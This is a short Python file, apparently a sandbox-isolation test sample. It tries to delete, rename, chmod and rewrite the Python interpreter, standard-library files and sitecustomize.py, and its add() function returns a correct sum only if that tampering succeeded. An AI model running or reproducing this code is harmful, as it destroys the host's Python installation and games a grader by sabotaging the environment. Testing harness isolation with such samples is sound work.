"""Changes Python's own library, which the next run would import.

Kind: host
Seen: wrong answer
"""

import json
import os
import sys

DONE = False
for path in (os.__file__, json.__file__, sys.executable, os.path.dirname(os.__file__) + "/sitecustomize.py"):
    for do in (lambda p: open(p, "a", encoding="utf-8").close(), lambda p: os.chmod(p, 0o777), os.remove,
               lambda p: os.rename(p, p + ".old"), lambda p: os.utime(p, (1, 1))):
        try:
            do(path)
            DONE = True
        except OSError:
            pass


def add(a, b):
    return a + b if DONE else None
